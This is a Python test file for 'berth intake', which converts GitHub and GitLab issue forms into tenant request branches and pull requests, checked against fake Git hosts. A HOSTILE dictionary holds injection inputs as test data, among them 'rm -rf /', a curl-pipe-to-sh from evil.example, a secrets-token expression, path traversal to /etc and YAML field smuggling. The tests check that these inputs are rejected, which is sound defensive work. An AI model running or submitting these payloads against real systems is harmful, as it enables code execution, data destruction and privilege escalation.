"""`berth intake` and `berth comment` against the fake GitHub and GitLab on 127.0.0.1.

The events are the real webhook payloads vendored in tests/upstream, with the body and labels
replaced by a test's issue form; the checkout is a throwaway repository rendered by Berth.
Tests assert the exact requests a Git host receives, what ends up on the branch, and, for
hostile issue bodies, that the outcome is a clean request or a validation error: never a
crash, never a file outside tenants/, never a process started.
"""

from __future__ import annotations

import copy
import json
import subprocess
from pathlib import Path
from typing import Any

import pytest
import yaml

from generator.cli import EXIT_HOST
from generator.intake.event import issue_event
from generator.intake.proposal import Proposal, Rejection, propose
from generator.problems import Problem
from tests.support.fake_github import FakeGitHub
from tests.support.fake_gitlab import FakeGitLab
from tests.support.jobs import github_job, gitlab_job
from tests.support.repo import berth, tree
from tests.support.tools import reference

GH = "/api/v3/repos/Codertocat/Hello-World"
GL = "/api/v4/projects/5"
INTAKE = "<!-- berth:intake -->"
# What a valid request for tenant `billing` changes in the checkout below.
BILLING_FILES = {
    "tenants/billing/tenant.yaml",
    "CODEOWNERS",
    "catalog/catalog-info.yaml",
    "catalog/templates/new-system.yaml",  # its form offers the tenants that exist
    "catalog/tenants/billing.yaml",
    "environments/dev/shards/0/billing.yaml",
    "environments/dev/tenants/billing/argocd.yaml",
    "environments/dev/tenants/billing/guardrails/kustomization.yaml",
    "environments/prod/shards/0/billing.yaml",
    "environments/prod/tenants/billing/argocd.yaml",
    "environments/prod/tenants/billing/guardrails/kustomization.yaml",
}


def tenant_form(
    *,
    name: str = "billing",
    description: str = "Invoices and dunning",
    owners: str = "@dave, erin",
    group: str = "acme/billing",
    cost_center: str = "CC-5000",
    environments: tuple[str, ...] = ("dev", "prod"),
    size: str = "small",
    budget: str = "_No response_",
) -> str:
    boxes = "\n".join(
        f"- [{'X' if env in environments else ' '}] {env}" for env in ("dev", "staging", "prod")
    )
    fields = [
        ("Tenant name", name),
        ("Description", description),
        ("Owners", owners),
        ("Group", group),
        ("Cost center", cost_center),
        ("Environments", boxes),
        ("Size", size),
        ("Monthly budget", budget),
    ]
    return "".join(f"### {label}\n\n{value}\n\n" for label, value in fields)


def app_form(*, tenant: str = "payments", name: str = "web") -> str:
    fields = [
        ("Tenant", tenant),
        ("Application name", name),
        ("Blueprint", "web-service"),
        ("Image", "ghcr.io/acme/payments-web"),
        ("Port", "8080"),
        ("CPU", "250m"),
        ("Memory", "256Mi"),
        ("Health path", "/healthz"),
        ("Schedule", "_No response_"),
        ("Environments", "- [X] dev\n- [ ] staging\n- [X] prod"),
        ("Image tag", "1.0.0"),
        ("Replicas", "2"),
        ("Host prefix", "web.payments"),  # hosts are <name>.<tenant>.<domain>
    ]
    return "".join(f"### {label}\n\n{value}\n\n" for label, value in fields)


# -- fixtures ---------------------------------------------------------------------------------


@pytest.fixture
def github(github: FakeGitHub, checkout: Path, monkeypatch: pytest.MonkeyPatch) -> FakeGitHub:
    return github_job(github, monkeypatch, checkout)


@pytest.fixture
def gitlab(gitlab: FakeGitLab, checkout: Path, monkeypatch: pytest.MonkeyPatch) -> FakeGitLab:
    # The documentation's issue event is about issue #23; the fake knows #17: add #23.
    issue = copy.deepcopy(gitlab.issues[17])
    issue.update(iid=23, id=issue["id"] + 6, web_url=f"{gitlab.project['web_url']}/-/issues/23")
    gitlab.issues[23] = issue
    return gitlab_job(gitlab, monkeypatch, checkout)


def github_event(
    tmp_path: Path, action: str, body: Any, labels: tuple[str, ...] = ("tenant-request",)
) -> Path:
    payload = json.loads(
        reference("github", "webhooks", f"issues.{action}.payload.json").read_text()
    )
    payload["issue"]["body"] = body
    payload["issue"]["labels"] = [{"name": label, "color": "ededed"} for label in labels]
    path = tmp_path / f"issues.{action}.json"
    path.write_text(json.dumps(payload))
    return path


def gitlab_event(tmp_path: Path, body: str, labels: tuple[str, ...] = ("tenant-request",)) -> Path:
    payload = json.loads(reference("gitlab", "docs-webhook-events", "issue_event.json").read_text())
    payload["object_attributes"]["description"] = body
    payload["labels"] = [{"id": 300 + i, "title": label} for i, label in enumerate(labels)]
    payload["object_attributes"]["labels"] = payload["labels"]
    path = tmp_path / "issue_event.json"
    path.write_text(json.dumps(payload))
    return path


def intake(
    checkout: Path, event: Path, monkeypatch: pytest.MonkeyPatch, *, gitlab: bool = False
) -> tuple[int, str, str]:
    """`berth intake` as the workflow runs it: GitHub reads $GITHUB_EVENT_PATH, GitLab --event."""
    if gitlab:
        return berth(checkout, "intake", "--event", str(event))
    monkeypatch.setenv("GITHUB_EVENT_PATH", str(event))
    return berth(checkout, "intake")


def methods_and_paths(trace: list[tuple[str, str, dict[str, str], Any]]) -> list[tuple[str, str]]:
    return [(method, path) for method, path, _, _ in trace]


# -- GitHub -----------------------------------------------------------------------------------


def test_github_issue_becomes_one_branch_and_one_pull_request_updated_on_edit(
    checkout: Path, github: FakeGitHub, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    master = github.git.refs["refs/heads/master"]
    master_tree = github.git.commits[master].tree

    code, out, err = intake(checkout, github_event(tmp_path, "opened", tenant_form()), monkeypatch)

    assert (code, err) == (0, "")
    assert out == "berth: issue #1 -> https://github.com/Codertocat/Hello-World/pull/3\n"
    trace = github.trace()
    assert methods_and_paths(trace) == [
        ("GET", GH),
        ("GET", f"{GH}/git/ref/heads/master"),
        ("GET", f"{GH}/git/ref/heads/berth/issue-1"),
        ("GET", f"{GH}/git/commits/{master}"),
        ("GET", f"{GH}/git/trees/{master_tree}"),
        *[("POST", f"{GH}/git/blobs")] * len(BILLING_FILES),
        ("POST", f"{GH}/git/trees"),
        ("POST", f"{GH}/git/commits"),
        ("POST", f"{GH}/git/refs"),
        ("GET", f"{GH}/pulls"),
        ("POST", f"{GH}/pulls"),
        ("GET", GH),
        ("GET", f"{GH}/issues/1"),
        ("GET", f"{GH}/issues/1/comments"),
        ("POST", f"{GH}/issues/1/comments"),
    ]
    bodies = {(m, p): b for m, p, _, b in trace}
    assert {e["path"] for e in bodies[("POST", f"{GH}/git/trees")]["tree"]} == BILLING_FILES
    assert (
        bodies[("POST", f"{GH}/git/commits")]["message"] == "berth: add tenant billing (issue #1)"
    )
    assert bodies[("POST", f"{GH}/git/refs")]["ref"] == "refs/heads/berth/issue-1"
    pull = bodies[("POST", f"{GH}/pulls")]
    assert (pull["head"], pull["base"], pull["title"]) == (
        "berth/issue-1",
        "master",
        "berth: add tenant billing",
    )
    assert "Closes #1" in pull["body"]
    assert bodies[("POST", f"{GH}/issues/1/comments")]["body"].startswith(
        f"{INTAKE}\n**Pull request:** https://github.com/Codertocat/Hello-World/pull/3\n"
    )
    branch = github.git.files("berth/issue-1")
    request = yaml.safe_load(branch["tenants/billing/tenant.yaml"])
    assert request["spec"] == {
        "description": "Invoices and dunning",
        "owners": ["dave", "erin"],
        "group": "acme/billing",
        "costCenter": "CC-5000",
        "environments": {"dev": {"size": "small"}, "prod": {"size": "small"}},
    }
    assert b"/tenants/billing/ @dave @erin\n" in branch["CODEOWNERS"]

    # The issue is edited into an invalid request: the errors go into the same comment, the
    # pull request is left alone.
    start = len(github.requests)
    broken = tenant_form(size="huge")
    code, _, _ = intake(checkout, github_event(tmp_path, "edited", broken), monkeypatch)
    assert code == 1
    assert methods_and_paths(github.trace(start)) == [
        ("GET", GH),
        ("GET", f"{GH}/issues/1"),
        ("GET", f"{GH}/issues/1/comments"),
        ("GET", "/api/v3/user"),
        ("PATCH", f"{GH}/issues/comments/{github.comments_on(1)[-1]['id']}"),
    ]
    [comment] = [c for c in github.comments_on(1) if INTAKE in c["body"]]
    assert (
        "- `tenants/billing/tenant.yaml:17:13` `spec.environments.dev.size`: `unknown size"
        " 'huge'; the platform offers: small, medium, large`\n"
    ) in comment["body"]
    assert "<details><summary>The request file built from this issue" in comment["body"]

    # Fixed, with a new description: one more commit on the same branch, the same pull
    # request (title and body unchanged, so not rewritten), the comment back to its link.
    start = len(github.requests)
    head = github.git.refs["refs/heads/berth/issue-1"]
    fixed = tenant_form(description="Invoices, dunning and refunds")
    code, _, _ = intake(checkout, github_event(tmp_path, "edited", fixed), monkeypatch)
    assert code == 0
    trace = github.trace(start)
    assert methods_and_paths(trace) == [
        ("GET", GH),
        ("GET", f"{GH}/git/ref/heads/master"),
        ("GET", f"{GH}/git/ref/heads/berth/issue-1"),
        ("GET", f"{GH}/git/commits/{master}"),
        ("GET", f"{GH}/git/trees/{master_tree}"),
        ("GET", f"{GH}/git/commits/{head}"),  # is the branch current already? no
        ("GET", f"{GH}/git/trees/{github.git.commits[head].tree}"),
        # Rebuilt from the base: every file of the request again, on master, forced.
        *[("POST", f"{GH}/git/blobs")] * len(BILLING_FILES),
        ("POST", f"{GH}/git/trees"),
        ("POST", f"{GH}/git/commits"),
        ("PATCH", f"{GH}/git/refs/heads/berth/issue-1"),
        ("GET", f"{GH}/pulls"),
        ("GET", GH),
        ("GET", f"{GH}/issues/1"),
        ("GET", f"{GH}/issues/1/comments"),
        ("GET", "/api/v3/user"),
        ("PATCH", f"{GH}/issues/comments/{comment['id']}"),
    ]
    [new_tree] = [b for m, p, _, b in trace if (m, p) == ("POST", f"{GH}/git/trees")]
    assert new_tree["base_tree"] == master_tree
    assert {e["path"] for e in new_tree["tree"]} == BILLING_FILES
    [ref] = [b for m, p, _, b in trace if m == "PATCH" and "/git/refs/" in p]
    assert ref["force"] is True
    assert github.git.commits[github.git.refs["refs/heads/berth/issue-1"]].parents == [master]
    assert len(github.open_pulls("berth/issue-1")) == 1
    assert [
        c["body"].startswith(f"{INTAKE}\n**Pull request:**") for c in github.comments_on(1)
    ] == [
        False,  # the reference payload's own comment
        True,
    ]


def test_problems_are_commented_in_the_words_of_the_cli(
    checkout: Path, github: FakeGitHub, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    body = tenant_form(owners="@alice, bad_user!")
    code, out, _ = intake(checkout, github_event(tmp_path, "opened", body), monkeypatch)

    assert code == 1
    assert "invalid; commented" in out
    [comment] = [c["body"] for c in github.comments_on(1) if INTAKE in c["body"]]
    assert (
        "- `tenants/billing/tenant.yaml:12:5` `spec.owners[1]`: `'bad_user!' is neither a Git"
        " hosting username (ASCII letters, digits and single '-', at most 39) nor a team"
        " (org/team)`\n"
    ) in comment
    # Nothing was proposed.
    assert github.calls("POST") == [("POST", f"{GH}/issues/1/comments")]
    assert "refs/heads/berth/issue-1" not in github.git.refs


def test_a_path_as_tenant_name_is_a_validation_error(
    checkout: Path, github: FakeGitHub, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    before = tree(checkout)
    body = tenant_form(name="../x")

    code, _, _ = intake(checkout, github_event(tmp_path, "opened", body), monkeypatch)

    assert code == 1
    [comment] = [c["body"] for c in github.comments_on(1) if INTAKE in c["body"]]
    assert (
        "- `tenants/<tenant>/tenant.yaml:7:9` `metadata.name`: `'../x' is not a DNS-1123 label"
    ) in comment
    assert [m for m, _ in github.calls() if m != "GET"] == ["POST"]
    assert tree(checkout) == before


@pytest.mark.parametrize(
    ("labels", "state", "message"),
    [
        (
            ("bug",),
            "open",
            "has none of the labels 'tenant-request', 'app-request', 'scenario-request'",
        ),
        ((), "open", "has none of the labels 'tenant-request', 'app-request', 'scenario-request'"),
        (("tenant-request",), "closed", "is closed"),
    ],
)
def test_issues_that_are_not_open_requests_are_left_alone(
    checkout: Path,
    github: FakeGitHub,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    labels: tuple[str, ...],
    state: str,
    message: str,
) -> None:
    event = github_event(tmp_path, "opened", tenant_form(), labels)
    payload = json.loads(event.read_text())
    payload["issue"]["state"] = state
    event.write_text(json.dumps(payload))

    code, out, _ = intake(checkout, event, monkeypatch)

    assert code == 0
    assert out == f"berth: issue #1 {message}; nothing to do\n"
    assert github.requests == []


def test_both_request_labels_is_an_error_on_the_issue(
    checkout: Path, github: FakeGitHub, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    event = github_event(tmp_path, "opened", tenant_form(), ("tenant-request", "app-request"))
    assert intake(checkout, event, monkeypatch)[0] == 1
    [comment] = [c["body"] for c in github.comments_on(1) if INTAKE in c["body"]]
    assert "more than one of the labels" in comment


def test_a_git_host_error_is_reported_without_a_traceback(
    checkout: Path, github: FakeGitHub, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    github.fail(f"{GH}/pulls", 403, method="POST")

    code, _, err = intake(checkout, github_event(tmp_path, "opened", tenant_form()), monkeypatch)

    assert code == EXIT_HOST
    assert err.startswith("berth: error: GitHub: opening the pull request from 'berth/issue-1'")
    assert "HTTP 403" in err and "Traceback" not in err


def test_without_a_token_intake_is_a_dry_run(
    checkout: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("GITHUB_REPOSITORY", "acme/platform")
    code, out, _ = intake(checkout, github_event(tmp_path, "opened", tenant_form()), monkeypatch)

    assert code == 0
    assert "[dry run] would commit those of 11 file(s) that differ to branch 'berth/issue-1'" in out
    assert "    tenants/billing/tenant.yaml (" in out
    assert (
        "[dry run] would create or update the comment marked <!-- berth:intake --> on issue #1"
        in out
    )


def test_an_application_request(checkout: Path, tmp_path: Path) -> None:
    event = issue_event(
        json.loads(github_event(tmp_path, "opened", app_form(), ("app-request",)).read_text())
    )

    result = propose(str(checkout), event)

    assert isinstance(result, Proposal), result
    assert result.request_path == "tenants/payments/apps/web.yaml"
    assert {
        "environments/dev/tenants/payments/apps/web.values.yaml",
        "environments/prod/tenants/payments/apps/web.values.yaml",
    } <= set(result.files)
    request = yaml.safe_load(result.files["tenants/payments/apps/web.yaml"])
    assert request["spec"]["environments"]["prod"] == {
        "tag": "1.0.0",
        "replicas": 2,
        "host": "web.payments.acme.example",
    }

    unknown = issue_event(
        json.loads(
            github_event(
                tmp_path, "opened", app_form(tenant="nobody"), ("app-request",)
            ).read_text()
        )
    )
    assert propose(str(checkout), unknown) == Rejection(
        (
            Problem(
                "issue #1",
                1,
                1,
                "Tenant",
                "there is no tenant 'nobody'; request it with the tenant form first",
            ),
        )
    )


# -- GitLab -----------------------------------------------------------------------------------


def test_gitlab_issue_becomes_one_branch_and_one_merge_request(
    checkout: Path, gitlab: FakeGitLab, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    code, _, err = intake(checkout, gitlab_event(tmp_path, tenant_form()), monkeypatch, gitlab=True)

    assert (code, err) == (0, "")
    branch = "berth%2Fissue-23"
    trace = gitlab.trace()
    files = [path for _, path, _, _ in trace if "/repository/files/" in path]
    assert methods_and_paths(trace) == [
        ("GET", GL),
        ("GET", f"{GL}/repository/branches/{branch}"),
        ("GET", f"{GL}/repository/branches/master"),
        *[("GET", path) for path in files],
        ("POST", f"{GL}/repository/commits"),
        ("GET", f"{GL}/merge_requests"),
        ("POST", f"{GL}/merge_requests"),
        ("GET", GL),
        ("GET", f"{GL}/issues/23"),
        ("GET", f"{GL}/issues/23/notes"),
        ("POST", f"{GL}/issues/23/notes"),
    ]
    bodies = {(m, p): b for m, p, _, b in trace}
    commit = bodies[("POST", f"{GL}/repository/commits")]
    assert (commit["branch"], commit["start_branch"]) == ("berth/issue-23", "master")
    assert {a["file_path"] for a in commit["actions"]} == BILLING_FILES
    request = bodies[("POST", f"{GL}/merge_requests")]
    assert (request["source_branch"], request["target_branch"], request["title"]) == (
        "berth/issue-23",
        "master",
        "berth: add tenant billing",
    )
    note = bodies[("POST", f"{GL}/issues/23/notes")]["body"]
    assert note.startswith(f"{INTAKE}\n**Pull request:** http://example.com/gitlab-org/")

    # Edited: the same branch gets one more commit, the same merge request and note stay.
    start = len(gitlab.requests)
    edited = tenant_form(description="Invoices, dunning and refunds")
    code, _, _ = intake(checkout, gitlab_event(tmp_path, edited), monkeypatch, gitlab=True)
    assert code == 0
    trace = gitlab.trace(start)
    assert [(m, p) for m, p in methods_and_paths(trace) if "/repository/files/" not in p] == [
        ("GET", GL),
        ("GET", f"{GL}/repository/branches/{branch}"),
        ("GET", f"{GL}/repository/branches/master"),
        ("GET", f"{GL}/repository/compare"),  # is the branch current already? no
        ("POST", f"{GL}/repository/commits"),
        ("GET", f"{GL}/merge_requests"),
        ("GET", GL),
        ("GET", f"{GL}/issues/23"),
        ("GET", f"{GL}/issues/23/notes"),
        ("GET", "/api/v4/user"),  # the marked note is ours only if we wrote it
    ]
    # Rebuilt from the base and forced over the branch: what anyone pushed there is gone.
    commit = trace[[m for m, *_ in trace].index("POST")][3]
    assert (commit["start_branch"], commit["force"]) == ("master", True)
    assert {a["file_path"] for a in commit["actions"]} == BILLING_FILES
    assert len(gitlab.open_merge_requests("berth/issue-23")) == 1
    assert [n["body"].startswith(INTAKE) for n in gitlab.notes[("issues", 23)]] == [True]


# -- hostile issue bodies ---------------------------------------------------------------------

HOSTILE: dict[str, object] = {
    "shell in a description": tenant_form(description='x"; rm -rf / #'),
    "command substitution": tenant_form(description="$(curl evil.example | sh)"),
    "backticks": tenant_form(description="`id` ``` and more"),
    "workflow expression": tenant_form(description="${{ secrets.GITHUB_TOKEN }}"),
    "YAML that adds fields": tenant_form(
        description="ok\nspec:\n  allowFrom: [payments]\nadmin: true"
    ),
    "YAML in a one-line field": tenant_form(cost_center="CC-1\nextra: true"),
    "flow YAML in a field": tenant_form(group="acme/x}, {admin: true"),
    "command substitution as name": tenant_form(name="$(touch pwned)"),
    "parent folder as name": tenant_form(name="../x"),
    "deep path as name": tenant_form(name="../../../../etc/cron.d/x"),
    "absolute path as name": tenant_form(name="/etc/passwd"),
    "name with NUL": tenant_form(name="billing\x00x"),
    "existing tenant": tenant_form(name="payments", owners="mallory"),
    "look-alike letters in the name": tenant_form(name="p\u0430yments"),
    "lone surrogate": tenant_form(description="broken \ud800 text"),
    "control characters": tenant_form(description="bell \x07 and escape \x1b[31m red"),
    "1 MB of text": tenant_form(description="A" * 1_000_000),
    "no body": None,
    "not text": 42,
    "headings repeated": tenant_form() + tenant_form(name="other"),
    "HTML comments hiding a field": tenant_form().replace(
        "### Size\n\nsmall", "<!--\n### Size\n\nsmall\n-->"
    ),
}


@pytest.fixture
def no_processes(monkeypatch: pytest.MonkeyPatch) -> None:
    """Fail the test if intake starts any process (the issue text must never reach one)."""

    def refuse(*args: object, **kwargs: object) -> None:
        raise AssertionError(f"a process was started: {args!r}")

    monkeypatch.setattr(subprocess, "Popen", refuse)
    monkeypatch.setattr("os.system", refuse)
    monkeypatch.setattr("os.popen", refuse)


@pytest.mark.parametrize("body", list(HOSTILE.values()), ids=list(HOSTILE))
def test_hostile_bodies_give_a_clean_request_or_a_validation_error(
    checkout: Path, tmp_path: Path, body: object, no_processes: None
) -> None:
    before = tree(checkout)
    event = issue_event(json.loads(github_event(tmp_path, "opened", body).read_text()))

    result = propose(str(checkout), event)

    assert tree(checkout) == before  # the checkout is never written to
    if isinstance(result, Rejection):
        assert result.problems and all(isinstance(p, Problem) for p in result.problems)
        return
    name = result.tenant
    assert result.request_path == f"tenants/{name}/tenant.yaml"
    for path in result.files:
        parts = path.split("/")
        assert ".." not in parts and not path.startswith("/")
        # The request itself, or what `berth render` writes (a peer's network policy may change).
        assert path in (result.request_path, "CODEOWNERS") or parts[0] in (
            "environments",
            "catalog",
        ), path
    request = yaml.safe_load(result.files[result.request_path])
    assert set(request) == {"apiVersion", "kind", "metadata", "spec"}
    # An existing request keeps the fields the form does not cover (allowFrom, overrides).
    existing = checkout / result.request_path
    kept = set(yaml.safe_load(existing.read_text())["spec"]) if existing.is_file() else set()
    assert (
        set(request["spec"])
        <= {
            "description",
            "owners",
            "group",
            "costCenter",
            "environments",
            "budget",
        }
        | kept
    )


def test_hostile_text_stays_data(checkout: Path, tmp_path: Path) -> None:
    for key in ("command substitution", "workflow expression", "YAML that adds fields"):
        event = issue_event(json.loads(github_event(tmp_path, "opened", HOSTILE[key]).read_text()))
        result = propose(str(checkout), event)
        assert isinstance(result, Proposal), key
        request = yaml.safe_load(result.files["tenants/billing/tenant.yaml"])
        assert request["spec"]["description"] in str(HOSTILE[key])
        assert "admin" not in request and "allowFrom" not in request["spec"]


def test_outcomes_of_hostile_names_and_sizes(checkout: Path, tmp_path: Path) -> None:
    def outcome(key: str) -> Proposal | Rejection:
        payload = json.loads(github_event(tmp_path, "opened", HOSTILE[key]).read_text())
        return propose(str(checkout), issue_event(payload))

    for key in ("parent folder as name", "deep path as name", "absolute path as name"):
        result = outcome(key)
        assert isinstance(result, Rejection), key
        assert any(p.field == "metadata.name" and "DNS-1123" in p.message for p in result.problems)
        assert all(p.file == "tenants/<tenant>/tenant.yaml" for p in result.problems)
    big = outcome("1 MB of text")
    assert big == Rejection(
        (
            Problem(
                "issue #1",
                1,
                1,
                "Issue body",
                "the issue body is larger than 64 KiB; a request form is far smaller",
            ),
        )
    )
    existing = outcome("existing tenant")
    assert isinstance(existing, Proposal) and existing.updates


def test_a_request_the_default_branch_already_has_is_only_acknowledged(
    checkout: Path, github: FakeGitHub, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    event = github_event(tmp_path, "opened", tenant_form())
    proposal = propose(str(checkout), issue_event(json.loads(event.read_text())))
    assert isinstance(proposal, Proposal)
    for path, content in proposal.files.items():  # as if its pull request had been merged
        (checkout / path).parent.mkdir(parents=True, exist_ok=True)
        (checkout / path).write_bytes(content)

    code, out, _ = intake(checkout, event, monkeypatch)

    assert code == 0
    assert "asks for nothing new" in out
    assert [m for m, _ in github.calls() if m != "GET"] == ["POST"]
    [comment] = [c["body"] for c in github.comments_on(1) if INTAKE in c["body"]]
    assert "`tenants/billing/tenant.yaml` on `master` is this request already" in comment


def test_intake_needs_an_issue_event(
    checkout: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    code, _, err = berth(checkout, "intake")
    assert code == 2 and "no issue event" in err

    push = reference("github", "webhooks", "push.payload.json")
    code, _, err = berth(checkout, "intake", "--event", str(push))
    assert code == 2 and "not an issue event" in err

    broken = tmp_path / "broken.json"
    broken.write_text("{")
    code, _, err = berth(checkout, "intake", "--event", str(broken))
    assert code == 2 and "is not JSON" in err and "Traceback" not in err


@pytest.mark.parametrize(
    ("body", "label"),
    [
        (tenant_form(), "tenant-request"),  # a new tenant: catalog Location and CODEOWNERS too
        (tenant_form(name="search", owners="@frank, @grace"), "tenant-request"),  # new owners
        (app_form(), "app-request"),  # an application of an existing tenant
    ],
    ids=["new-tenant", "tenant-owners", "new-app"],
)
def test_an_intake_branch_passes_render_check_as_opened(
    checkout: Path, tmp_path: Path, body: str, label: str
) -> None:
    event = issue_event(json.loads(github_event(tmp_path, "opened", body, (label,)).read_text()))
    code, out, _ = berth(checkout, "render", "--check")
    assert code == 0, out

    apply_proposal(checkout, propose(str(checkout), event))

    code, out, err = berth(checkout, "render", "--check")
    assert (code, err) == (0, ""), out
    assert out == "berth: generated files are up to date\n"


def apply_proposal(checkout: Path, result: Proposal | Rejection) -> Proposal:
    """Write the proposal's files into the checkout and delete what it deletes, as the host
    builds the branch."""
    assert isinstance(result, Proposal), result
    for path, data in result.files.items():
        (checkout / path).parent.mkdir(parents=True, exist_ok=True)
        (checkout / path).write_bytes(data)
    for path in result.stale:
        (checkout / path).unlink()
    return result


def test_an_intake_branch_that_deletes_generated_files_passes_render_check(
    checkout: Path, tmp_path: Path
) -> None:
    def event(body: str) -> Any:
        path = github_event(tmp_path, "opened", body, ("app-request",))
        return issue_event(json.loads(path.read_text()))

    apply_proposal(checkout, propose(str(checkout), event(app_form())))
    assert berth(checkout, "render", "--check")[0] == 0
    only_dev = app_form().replace("- [X] prod", "- [ ] prod")

    result = apply_proposal(checkout, propose(str(checkout), event(only_dev)))

    assert "environments/prod/tenants/payments/apps/web.values.yaml" in result.stale
    code, out, err = berth(checkout, "render", "--check")
    assert (code, err) == (0, ""), out
